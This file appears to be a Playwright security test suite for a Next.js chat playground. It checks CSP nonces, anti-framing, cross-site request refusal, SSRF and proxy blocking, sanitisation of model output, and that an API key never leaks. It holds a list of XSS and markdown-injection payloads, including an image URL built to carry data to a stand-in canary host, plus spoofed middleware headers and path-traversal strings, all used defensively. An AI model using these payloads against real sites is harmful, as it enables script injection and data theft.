import { readdirSync, readFileSync, statSync } from "node:fs";
import { createServer, type IncomingHttpHeaders, request as send } from "node:http";
import { type AddressInfo, connect } from "node:net";
import path from "node:path";
import { text as textOf } from "node:stream/consumers";
import type { Page } from "@playwright/test";
import { appUrl, simulatorUrl } from "../support/addresses";
import { App } from "../support/app";
import { ChatPage } from "../support/chat-page";
import { expect, test } from "../support/fixtures";
import { simulator } from "../support/simulator";

const root = new URL("../..", import.meta.url).pathname;

type Answer = { status: number; headers: IncomingHttpHeaders; body: string };

/** A request as no browser sends it: any Host, any Origin, any other header. */
async function raw(method: string, path: string, headers: Record<string, string> = {}, body?: string) {
  const { hostname, port, host } = new URL(appUrl);
  const request = send({ hostname, port, method, path, headers: { host, ...headers } });
  request.end(body);
  return new Promise<Answer>((resolve, reject) => {
    request.on("error", reject);
    request.on("response", async (response) => {
      const body = await textOf(response);
      resolve({ status: response.statusCode ?? 0, headers: response.headers, body });
    });
  });
}

const json = { "content-type": "application/json" };
const evil = "https://evil.example";
const question = { model: "Qwen/Qwen3-8B", messages: [{ role: "user", content: "Hello" }] };
const run = JSON.stringify({ operation: "chat.completions", input: question });
const startKey = { "idempotency-key": "security-journey" };

test.beforeEach(() => simulator.reset());

test.describe("what a page may load and run", () => {
  test("is said with another nonce each time, the one that its own scripts carry", async ({ page }) => {
    const nonces = new Set<string>();
    for (let load = 0; load < 2; load++) {
      const response = await page.goto(`${appUrl}/chat`);
      const policy = response?.headers()["content-security-policy"] ?? "";
      const nonce = /script-src 'nonce-([0-9a-f]{32})' 'strict-dynamic'/.exec(policy)?.[1] ?? "";
      expect(nonce).not.toBe("");
      for (const rule of [
        "default-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "form-action 'self'",
        "require-trusted-types-for 'script'",
      ])
        expect(policy.split("; ")).toContain(rule);
      expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|\*/);
      const html = (await response?.text()) ?? "";
      const scripts = html.match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(2);
      for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
      nonces.add(nonce);
    }
    expect(nonces.size).toBe(2);
  });

  test("is never what a request says", async () => {
    const planted = `script-src 'nonce-"><script>alert(1)</script>' 'unsafe-inline' https://evil.example`;
    const answer = await raw("GET", "/chat", {
      "content-security-policy": planted,
      "content-security-policy-report-only": planted,
      "x-nonce": "planted-nonce",
    });
    expect(answer.status).toBe(200);
    expect(JSON.stringify(answer)).not.toMatch(/planted-nonce|evil\.example|alert\(1\)/);
  });

  test("is kept even from a request that claims to come from inside Next", async () => {
    for (const name of ["middleware", "src/middleware", "proxy", "src/proxy", "pages/_middleware"])
      for (const value of [name, Array(5).fill(name).join(":")]) {
        const answer = await raw("GET", "/chat", {
          "x-middleware-subrequest": value,
          "x-middleware-subrequest-id": "1",
          "x-middleware-next": "1",
          "x-middleware-rewrite": `${evil}/`,
        });
        expect(answer.headers["content-security-policy"]).toContain("'strict-dynamic'");
        expect(JSON.stringify(answer)).not.toContain("evil.example");
      }
  });

  test("cannot be shown inside another page", async ({ page }) => {
    const framer = createServer((_, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<iframe src="${appUrl}/chat"></iframe><iframe src="${appUrl}/v1/models"></iframe>`);
    });
    await new Promise<void>((resolve) => framer.listen(0, "127.0.0.1", resolve));
    try {
      await page.goto(`http://127.0.0.1:${(framer.address() as AddressInfo).port}/`);
      for (const frame of page.frames().slice(1)) {
        await expect.poll(() => frame.url()).toBe("chrome-error://chromewebdata/");
      }
      expect(page.frames()).toHaveLength(3);
    } finally {
      framer.close();
      framer.closeAllConnections();
    }
  });
});

test("every answer forbids guessing, framing and caching, and invites no other site", async () => {
  const pages: [string, string][] = [
    ["GET", "/"],
    ["GET", "/chat"],
    ["GET", "/nowhere"],
  ];
  const doors: [string, string][] = [
    ["GET", "/api/models"],
    ["GET", "/api/health"],
    ["GET", "/api/runs/run_x"],
    ["GET", "/api/runs/run_x/events"],
    ["POST", "/api/runs"],
    ["POST", "/api/runs/run_x/stop"],
    ["GET", "/v1/models"],
    ["POST", "/v1/chat/completions"],
  ];
  for (const [method, path] of [...pages, ...doors])
    for (const verb of [method, "OPTIONS"]) {
      const headers = { origin: evil, "access-control-request-method": method };
      const answer = await raw(verb, path, headers);
      const where = `${verb} ${path}`;
      expect(
        Object.keys(answer.headers).filter((name) => name.startsWith("access-control-")),
        where,
      ).toEqual([]);
      expect(answer.headers["set-cookie"], where).toBeUndefined();
      expect(answer.headers["x-powered-by"], where).toBeUndefined();
      expect(answer.headers["server"], where).toBeUndefined();
      if (verb === "OPTIONS") continue;
      expect(answer.headers["x-content-type-options"], where).toBe("nosniff");
      expect(answer.headers["referrer-policy"], where).toBe("no-referrer");
      expect(answer.headers["cross-origin-resource-policy"], where).toBe("same-origin");
      expect(answer.headers["cache-control"], where).toContain("no-store");
      expect(answer.headers["content-security-policy"], where).toContain("frame-ancestors 'none'");
    }
  for (const [method, path] of pages) {
    const { headers } = await raw(method, path);
    expect(headers["x-frame-options"]).toBe("DENY");
    expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
    expect(headers["permissions-policy"]).toBe(
      "camera=(self), geolocation=(), microphone=(self), payment=(), usb=()",
    );
  }
});

test.describe("a request that another site's page could send", () => {
  const { host, port } = new URL(appUrl);
  const own = { origin: appUrl, "sec-fetch-site": "same-origin" };
  const refused: [string, Record<string, string>, number][] = [
    ["from another origin", { ...json, origin: evil }, 403],
    ["from another port of this machine", { ...json, origin: "http://127.0.0.1:1" }, 403],
    ["from this machine's other name", { ...json, origin: `http://localhost:${port}` }, 403],
    ["from a sandboxed frame", { ...json, origin: "null" }, 403],
    ["marked cross-site", { ...json, "sec-fetch-site": "cross-site" }, 403],
    ["marked same-site", { ...json, ...own, "sec-fetch-site": "same-site" }, 403],
    ["as plain text", { "content-type": "text/plain", ...own }, 415],
    ["as a form", { "content-type": "application/x-www-form-urlencoded", ...own }, 415],
    ["as a form with files", { "content-type": "multipart/form-data; boundary=x", ...own }, 415],
    ["to a name that points here (DNS rebinding)", { ...json, host: "evil.example", origin: evil }, 403],
    ["to an address that is not ours", { ...json, host: `192.168.7.7:${port}` }, 403],
    ["inside Next, as it claims", { ...json, origin: evil, "x-middleware-subrequest": "proxy" }, 403],
    [
      "with a peer of its own making",
      { ...json, host: "evil.example", "x-playground-peer": "127.0.0.1" },
      403,
    ],
  ];
  for (const [what, headers, status] of refused)
    test(`(${what}) starts nothing and costs nothing`, async () => {
      const toRuns = await raw("POST", "/api/runs", { ...startKey, ...headers }, run);
      expect(toRuns.status, toRuns.body).toBe(status);
      const toGateway = await raw("POST", "/v1/chat/completions", headers, JSON.stringify(question));
      expect(toGateway.status, toGateway.body).toBe(status);
      expect(JSON.parse(toGateway.body).error.message).toEqual(expect.any(String));
      expect(await simulator.chatRequests()).toEqual([]);
    });

  test("(without any origin) is no page's, so the browser door refuses it", async () => {
    expect((await raw("POST", "/api/runs", { ...json, ...startKey }, run)).status).toBe(403);
    expect((await raw("POST", "/api/runs/run_x/stop")).status).toBe(403);
  });

  test("reads nothing either", async () => {
    for (const path of ["/api/models", "/api/runs/run_x", "/api/runs/run_x/events", "/v1/models"]) {
      expect((await raw("GET", path, { "sec-fetch-site": "cross-site" })).status, path).toBe(403);
      expect((await raw("GET", path, { host: "evil.example" })).status, path).toBe(403);
    }
  });

  test("through a proxy on this machine is not this machine's own", async () => {
    const forwarded = { ...json, "x-forwarded-host": "play.example" };
    const answer = await raw("POST", "/v1/chat/completions", forwarded, JSON.stringify(question));
    expect(answer.status).toBe(401);
    expect((await raw("GET", "/v1/models", { "x-forwarded-host": "play.example" })).status).toBe(401);
  });

  test("(the page's own) passes, so the refusals above mean something", async () => {
    const answer = await raw("POST", "/api/runs", { ...json, ...startKey, ...own, host }, run);
    expect(answer.status).toBe(201);
  });
});

test.describe("ways around", () => {
  test("Next's own addresses and forms of a page give nothing but the page", async () => {
    for (const [path, headers] of [
      ["/chat?_rsc=abc", { rsc: "1" }],
      ["/chat", { rsc: "1", "next-router-prefetch": "1" }],
      ["/chat.rsc", {}],
      ["/index.rsc", {}],
      ["/api/models.rsc", {}],
      ["/v1/models.rsc", {}],
      ["/v1/models.json", {}],
      ["/_next/data/build/chat.json", {}],
      ["/v1/%2e%2e/api/models", { "sec-fetch-site": "cross-site" }],
      ["/v1//models", { host: "evil.example" }],
      ["//evil.example/v1/models", {}],
      ["/\\evil.example/v1/models", {}],
      ["/%5cevil.example//x", {}],
      ["/chat//..//evil.example", {}],
    ] as [string, Record<string, string>][]) {
      const answer = await raw("GET", path, headers);
      expect(answer.status, path).toBeLessThan(500);
      expect(answer.body, path).not.toContain('"object":"list"');
      expect(answer.headers.location ?? "", path).not.toMatch(/^(https?:)?[/\\]{2}(?!127\.0\.0\.1)/);
      if (answer.status === 200) expect(answer.headers["cache-control"], path).toContain("no-store");
    }
  });

  test("there are no server actions to call", async () => {
    const headers = {
      "next-action": "a".repeat(40),
      "content-type": "text/plain;charset=UTF-8",
      origin: evil,
    };
    const answer = await raw("POST", "/chat", headers, "[]");
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(JSON.stringify(answer.headers)).not.toContain("evil.example");
  });

  test("it fetches nothing for anybody: no pictures, no proxying, no upgrade", async () => {
    let hits = 0;
    const canary = createServer((_, response) => response.end(String(++hits)));
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    const target = `http://127.0.0.1:${(canary.address() as AddressInfo).port}/`;
    try {
      for (const url of [target, "/icon.svg", "http://169.254.169.254/"])
        expect((await raw("GET", `/_next/image?url=${encodeURIComponent(url)}&w=640&q=75`)).status).toBe(404);
      // Only the clients of a proxy write a whole address here: Next sends them back to it and goes nowhere itself.
      expect((await raw("GET", target)).status).toBeGreaterThanOrEqual(300);
      const { port } = new URL(appUrl);
      const socket = connect(Number(port), "127.0.0.1");
      socket.write(
        `GET ${target} HTTP/1.1\r\nHost: ${new URL(target).host}\r\nConnection: Upgrade\r\n` +
          "Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
      );
      socket.setTimeout(2000, () => socket.destroy());
      expect(await textOf(socket)).not.toMatch(/^HTTP\/1\.1 (101|200)/);
      const gateway = { ...json, "x-base-url": target, "x-forwarded-proto": "https" };
      const body = JSON.stringify({ ...question, base_url: target, api_base: target });
      await raw("POST", "/v1/chat/completions", gateway, body);
      await raw("GET", `/v1/models?base_url=${encodeURIComponent(target)}`);
      expect(hits).toBe(0);
    } finally {
      canary.close();
      canary.closeAllConnections();
    }
  });

  test("a link to the chat writes at most: it never sends", async ({ chat, page }) => {
    for (const name of ["q", "prompt", "message", "text", "input"]) {
      await page.goto(
        `${appUrl}/chat?${name}=Say%20exactly%3A%20sent&send=1&submit=true&model=Qwen/Qwen3-8B`,
      );
      await chat.model.waitFor();
      await page.waitForLoadState("networkidle");
      await expect(chat.conversation.getByRole("article")).toHaveCount(0);
    }
    expect(await simulator.chatRequests()).toEqual([]);
  });
});

/** What a model could be talked into saying. `canary.example` must never be asked for anything. */
const payloads = [
  "<script>window.pwned=1;alert(1)</script>",
  '<img src="https://canary.example/a.png" onerror="window.pwned=1;alert(1)">',
  "<img src=x onerror=alert(1)>",
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="https://canary.example/frame"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  "[one](javascript:alert(1))",
  "[two](java\tscript:alert(1))",
  "[three](JaVaScRiPt&colon;alert(1))",
  "[four](&#106;avascript:alert(1))",
  "[five](data:text/html,<script>alert(1)</script>)",
  "[six](vbscript:msgbox(1))",
  "[seven](//canary.example/x)",
  '[eight](https://canary.example/x "onmouseover=alert(1)")',
  "<javascript:alert(1)>",
  "![nine](https://canary.example/b.png?d=secret)",
  "![ten][ref] and [eleven][ref2]",
  "![twelve](data:image/svg+xml,<svg onload=alert(1)>)",
  '<style>body{background:url("https://canary.example/c")}</style>',
  '<link rel="stylesheet" href="https://canary.example/d.css">',
  '<meta http-equiv="refresh" content="0;url=https://canary.example/e">',
  '<base href="https://canary.example/">',
  '<form action="https://canary.example/f"><input name=a><button>go</button></form>',
  '<object data="https://canary.example/g"></object><embed src="https://canary.example/h">',
  '<video src="https://canary.example/i" autoplay></video>',
  '<div style="background:url(https://canary.example/j)" onclick="alert(1)">div</div>',
  "<details open ontoggle=alert(1)>x</details>",
  "$\\href{javascript:alert(1)}{x} \\includegraphics{https://canary.example/k.png}$",
  "$$\\htmlData{x=1}{y} \\url{javascript:alert(1)}$$",
  "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  '```"><script>alert(1)</script>\ncode\n```',
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "[ref]: https://canary.example/l.png?d=secret\n[ref2]: javascript:alert(1)",
  "the end of it",
];

/** No address of the answer may run or load anything. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.getByRole("log").evaluate((log) => {
    const attributes = [...log.querySelectorAll("*")].flatMap((element) =>
      [...element.attributes].map(({ name, value }) => ({ tag: element.localName, name, value })),
    );
    return {
      elements: [
        ...log.querySelectorAll("script,iframe,object,embed,form,link,meta,base,video,audio,img,style"),
      ].map((element) => element.outerHTML),
      handlers: attributes.filter(({ name }) => name.startsWith("on")),
      addresses: attributes
        .filter(({ name }) => ["href", "src", "srcset", "action", "formaction", "xlink:href"].includes(name))
        .map(({ value }) => value)
        .filter((value) => !/^(https?:\/\/|mailto:|#|\/chat)/.test(value)),
      styles: attributes.filter(({ name, value }) => name === "style" && /url\(|expression/.test(value)),
      pwned: "pwned" in window,
    };
  });
  expect(found).toEqual({ elements: [], handlers: [], addresses: [], styles: [], pwned: false });
}

test("whatever a model says runs nothing and asks nobody, while it comes and after a reload", async ({
  chat,
  page,
  complaints: _,
}) => {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { violations });
    document.addEventListener("securitypolicyviolation", (event) => {
      violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
  await chat.open();
  await page.getByRole("button", { name: "Thinking" }).click();
  await simulator.scenario("split", { bytes: 3 });
  await simulator.pace({ speed: 1, tokensPerSecond: 600, firstTokenMs: 0 });
  await chat.ask(`Say exactly: ${payloads.join("\n\n")}`);
  await chat.done();
  await expect(chat.answer).toContainText("the end of it");
  await expectHarmless(page);
  expect(await violations()).toEqual([]);
  await page.reload();
  await expect(chat.answer).toContainText("the end of it");
  await expectHarmless(page);
  expect(await violations()).toEqual([]);
  const links = await chat.answer.getByRole("link").all();
  expect(links.length).toBeGreaterThan(0);
  for (const link of links) {
    const href = (await link.getAttribute("href")) ?? "";
    expect(href).toMatch(/^https:\/\/canary\.example\//);
    expect(await link.getAttribute("rel")).toMatch(/noopener/);
    expect(await link.getAttribute("target")).toBe("_blank");
  }
  expect(dialogs).toEqual([]);
});

const canaryKey = "sk-CANARY-7f3a9c2e51d84b60aa17";
const canaryPrompt = "CANARYPROMPT4417";

/** The ways in which a text could be written down and still be found by who looks for it. */
function spellings(secret: string): string[] {
  const bytes = Buffer.from(secret);
  // Base64 of something that holds it, at each of the three places at which it can begin.
  const base64 = [0, 1, 2].map((shift) =>
    Buffer.concat([Buffer.alloc(shift), bytes])
      .toString("base64")
      .replace(/=+$/, "")
      .slice(shift === 0 ? 0 : shift + 1, -2),
  );
  const hex = bytes.toString("hex");
  const percent = hex.replace(/../g, (pair) => `%${pair}`);
  return [
    secret,
    secret.slice(3), // without what marks it as a key
    ...base64,
    ...base64.map((text) => text.replaceAll("+", "-").replaceAll("/", "_")),
    hex,
    hex.toUpperCase(),
    percent,
    encodeURIComponent(secret),
    [...secret].reverse().join(""),
  ];
}

function leaks(secret: string, texts: Iterable<[string, string]>): string[] {
  const wanted = spellings(secret);
  return [...texts].filter(([, text]) => wanted.some((one) => text.includes(one))).map(([where]) => where);
}

/** Every file under a folder, as text that holds each byte as one character. */
function filesUnder(folder: string): [string, string][] {
  return readdirSync(folder, { recursive: true, encoding: "utf8" })
    .map((name) => path.join(folder, name))
    .filter((file) => statSync(file).isFile())
    .map((file) => [file, readFileSync(file, "latin1")]);
}

/** Everything that the page has put by in this browser. */
function storageOf(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const dump: unknown[] = [{ ...localStorage }, { ...sessionStorage }, document.cookie];
    for (const { name = "" } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of database.objectStoreNames) {
        const all = database.transaction(store).objectStore(store).getAll();
        dump.push(await new Promise((resolve) => (all.onsuccess = () => resolve(all.result))));
      }
      database.close();
    }
    return JSON.stringify(dump);
  });
}

test("what looks for the key finds it in each of its disguises", () => {
  for (const text of [
    `{"a":"${canaryKey}"}`,
    Buffer.from(`Bearer ${canaryKey}`).toString("base64"),
    Buffer.from(`x${canaryKey}y`).toString("base64"),
    Buffer.from(`xy${canaryKey}zz`).toString("base64url"),
    Buffer.from(canaryKey).toString("hex"),
  ])
    expect(leaks(canaryKey, [["here", text]]), text).toEqual(["here"]);
  expect(leaks(canaryKey, [["here", "sk-other-key"]])).toEqual([]);
});

for (const logLevel of ["info", "trace"])
  test(`SiliconFlow's key leaves the server towards SiliconFlow only (log level ${logLevel})`, async ({
    page,
  }) => {
    test.setTimeout(90_000);
    const app = new App(4841, {
      SILICONFLOW_API_KEY: canaryKey,
      SILICONFLOW_BASE_URL: `${simulatorUrl}/v1`,
      LOG_LEVEL: logLevel,
      UPSTREAM_FIRST_BYTE_TIMEOUT_MS: "2000",
    });
    const seen: [string, string][] = [];
    const reading: Promise<void>[] = [];
    page.on("response", (response) => {
      const take = async () => {
        seen.push([`headers of ${response.url()}`, JSON.stringify(await response.allHeaders())]);
        seen.push([response.url(), (await response.body()).toString("latin1")]);
      };
      reading.push(take().catch(() => {})); // a body that a reload cut off is read again by the next page
    });
    page.on("console", (message) => seen.push(["console", message.text()]));
    /** A call of a program beside the browser. */
    const call = async (path: string, body?: unknown) => {
      const response = await fetch(`${app.url}${path}`, {
        ...(body !== undefined && { method: "POST", headers: json, body: JSON.stringify(body) }),
      });
      seen.push([path, JSON.stringify([...response.headers]) + (await response.text())]);
      return response.status;
    };
    try {
      await app.start();
      const chat = new ChatPage(page);
      await chat.open(`${app.url}/chat`);
      await chat.ask(`Say exactly: ${canaryPrompt}`);
      await chat.done();
      await expect(chat.answer).toContainText(canaryPrompt);
      for (const fault of [
        "error-30014",
        "error-20015",
        "html-200",
        "reset",
        "error-in-stream",
        "slow-headers",
      ]) {
        await simulator.scenario(fault, {}, 3);
        expect(await call("/v1/chat/completions", { ...question, stream: true })).toBeGreaterThanOrEqual(200);
        await simulator.reset();
        await simulator.scenario(fault, {}, 3);
        await chat.ask(`${canaryPrompt} and ${fault}`);
        await chat.done();
        await expect(chat.error).toBeVisible();
        await simulator.reset();
      }
      expect(await call("/v1/chat/completions", question)).toBe(200);
      expect(await call("/v1/chat/completions", { ...question, stream: true })).toBe(200);
      expect(await call("/v1/chat/completions", { model: canaryPrompt })).toBe(400);
      const runs = seen.flatMap(([, text]) => text.match(/run_[0-9a-f-]{36}/g) ?? []);
      expect(runs.length).toBeGreaterThan(0);
      for (const id of new Set(runs)) expect(await call(`/api/runs/${id}`)).toBe(200);
      for (const path of ["/v1/models", "/api/models", "/api/health", "/api/ready", "/chat", "/nowhere"])
        await call(path);
      await page.reload();
      await chat.model.waitFor();
      await Promise.all(reading);
      seen.push(["the page", await page.content()], ["the browser's storage", await storageOf(page)]);
      seen.push(["the browser's cookies", JSON.stringify(await page.context().cookies())]);
      expect(await app.end()).toBe(0);
      expect(seen.length).toBeGreaterThan(40);
      expect(leaks(canaryKey, seen)).toEqual([]);
      expect(leaks(canaryKey, [["the server's output", app.output]])).toEqual([]);
      expect(leaks(canaryPrompt, [["the server's output", app.output]])).toEqual([]);
      const kept = filesUnder(app.dataDirectory);
      expect(leaks(canaryPrompt, kept).length, "the search can see what the server keeps").toBeGreaterThan(0);
      expect(leaks(canaryKey, kept)).toEqual([]);
      const shipped = filesUnder(path.join(root, ".next/static"));
      expect(shipped.length).toBeGreaterThan(10);
      expect(leaks(canaryKey, shipped)).toEqual([]);
      // Of a worker Next ships a map, which is empty.
      for (const [file, text] of shipped)
        if (file.endsWith(".map")) expect(JSON.parse(text), file).toMatchObject({ sources: [] });
    } finally {
      await app.dispose();
    }
  });
